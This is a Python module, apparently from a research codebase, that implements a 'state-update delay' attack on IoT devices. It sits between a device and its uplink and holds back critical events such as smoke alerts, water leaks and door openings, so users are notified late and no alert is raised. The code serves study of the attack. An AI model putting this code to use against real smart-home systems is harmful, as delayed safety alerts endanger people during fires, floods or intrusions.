"""Type-I: State-Update Delay Attack (Section V-A).

Delay the event that reports a critical device state — a smoke alert, a
water leak, a door opening — so the user's notification arrives dozens of
seconds to minutes late, while no layer raises any alert.
"""

from __future__ import annotations

from ...devices.base import IoTDevice
from ..attacker import PhantomDelayAttacker
from ..predictor import TimeoutBehavior
from ..primitives import DelayOperation, EDelay


class StateUpdateDelay:
    """Arms e-Delay against one device's state-update events."""

    def __init__(
        self,
        attacker: PhantomDelayAttacker,
        device: IoTDevice,
        behavior: TimeoutBehavior | None = None,
        peer_ip: str | None = None,
    ) -> None:
        self.attacker = attacker
        self.device = device
        self.behavior = behavior or TimeoutBehavior.from_profile(device.profile)
        self.uplink_ip = device.uplink_ip
        attacker.interpose(self.uplink_ip, peer_ip=peer_ip)
        self._primitive: EDelay = attacker.e_delay(self.uplink_ip, self.behavior)
        self.operations: list[DelayOperation] = []

    def arm(self, duration: float | None = None) -> DelayOperation:
        """Delay the device's next event (``None`` = maximum safe delay).

        The hold keys on the device's event-length fingerprint, so on a hub
        session only the *target child's* event starts the delay.
        """
        operation = self._primitive.arm(
            duration=duration,
            trigger_size=self.device.profile.event_size,
            label=f"type-I:{self.device.device_id}",
        )
        self.operations.append(operation)
        return operation

    def release(self, operation: DelayOperation) -> None:
        self._primitive.release(operation)
